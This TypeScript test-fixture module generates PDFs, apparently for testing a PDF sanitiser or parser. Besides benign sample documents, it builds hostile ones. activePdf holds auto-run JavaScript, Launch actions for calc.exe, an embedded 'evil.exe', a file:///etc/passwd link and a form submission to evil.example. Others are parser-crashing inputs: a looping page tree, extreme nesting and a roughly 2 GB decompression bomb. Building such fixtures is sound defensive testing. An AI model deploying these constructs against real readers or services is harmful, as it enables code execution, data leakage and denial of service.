import { PDFDocument, StandardFonts } from '@cantoo/pdf-lib';
import { deflateSync } from 'node:zlib';

/** A document with this number of pages, each with its number. */
export async function numberedPdf(pages: number, title = 'Numbered'): Promise<Buffer> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  doc.setTitle(title);
  for (let page = 1; page <= pages; page++)
    doc.addPage([300, 400]).drawText(`Page ${page}`, { x: 40, y: 200, size: 40, font });
  return Buffer.from(await doc.save({ useObjectStreams: false }));
}

/** A document of these objects, which are numbered from 1; the first one is the catalog. */
export function rawPdf(objects: readonly (string | Buffer)[], trailer = ''): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  const offsets: number[] = [];
  let length = parts[0]?.length ?? 0;
  objects.forEach((object, at) => {
    offsets.push(length);
    const part = Buffer.concat([Buffer.from(`${at + 1} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n')]);
    parts.push(part);
    length += part.length;
  });
  const entries = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const size = objects.length + 1;
  parts.push(
    Buffer.from(
      `xref\n0 ${size}\n0000000000 65535 f \n${entries}trailer\n<< /Size ${size} /Root 1 0 R ${trailer} >>\nstartxref\n${length}\n%%EOF\n`,
    ),
  );
  return Buffer.concat(parts);
}

const PAGE = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200]';

/** Everything that a document can do without its reader's wish. */
export const activePdf = (): Buffer =>
  rawPdf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /AA << /WC 5 0 R >>
      /Names << /JavaScript << /Names [(a) 5 0 R] >> /EmbeddedFiles << /Names [(evil.exe) 8 0 R] >> >>
      /AcroForm << /Fields [] /XFA 9 0 R >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `${PAGE} /AA << /O 5 0 R >> /Annots [4 0 R 6 0 R 7 0 R 10 0 R 11 0 R] >>`,
    '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (calc.exe) >> >>',
    '<< /S /JavaScript /JS (app.alert\\(1\\)) /Next << /S /Launch /F (calc.exe) >> >>',
    '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.com/) /Next 5 0 R >> >>',
    '<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << >> >>',
    '<< /Type /Filespec /F (evil.exe) /EF << /F 9 0 R >> >>',
    '<< /Length 4 >>\nstream\nevil\nendstream',
    '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (file:///etc/passwd) >> >>',
    '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /SubmitForm /F (https://evil.example/) >> >>',
  ]);

/** A tree of pages that contains itself. */
export const loopingPdf = (): Buffer =>
  rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>', `${PAGE} >>`]);

/** A reference to itself in place of an object, and a table of objects that names itself as the earlier one. */
export const selfReferringPdf = (): Buffer =>
  rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', '2 0 R', `${PAGE} >>`], '/Prev 9');

/** One page that is in the tree 100,000 times, in a small file. */
export const manyPagesPdf = (): Buffer =>
  rawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${Array.from({ length: 100_000 }, (_, at) => `${at + 3} 0 R`).join(' ')}] /Count 100000 >>`,
    ...Array.from({ length: 100_000 }, () => `${PAGE} >>`),
  ]);

/** Arrays in arrays, deeper than a stack. */
export const deepPdf = (): Buffer =>
  rawPdf([
    '<< /Type /Catalog /Pages 2 0 R /X 4 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `${PAGE} >>`,
    '['.repeat(200_000) + ']'.repeat(200_000),
  ]);

/** Compressed objects that become 2 GB. */
export function bombPdf(): Buffer {
  const once = deflateSync(Buffer.alloc(64 * 1024 * 1024, ' '));
  const stream = Buffer.concat([
    Buffer.from(`<< /Type /ObjStm /N 1 /First 1000 /Filter /FlateDecode /Length ${once.length} >>\nstream\n`),
    once,
    Buffer.from('\nendstream'),
  ]);
  const objects = Array.from({ length: 32 }, () => stream);
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `${PAGE} >>`,
    ...objects,
  ]);
}

/** A document with a password to open it. */
export async function encryptedPdf(): Promise<Buffer> {
  const doc = await PDFDocument.load(await numberedPdf(2));
  doc.encrypt({ userPassword: 'secret', ownerPassword: 'owner' });
  return Buffer.from(await doc.save());
}

/** Pages of a document, and its bytes without compression, for a search. */
export async function readPdf(bytes: Uint8Array): Promise<{ pages: number; text: string; title: string | undefined }> {
  const doc = await PDFDocument.load(bytes);
  const text = Buffer.from(await doc.save({ useObjectStreams: false })).toString('latin1');
  return { pages: doc.getPageCount(), text, title: doc.getTitle() };
}
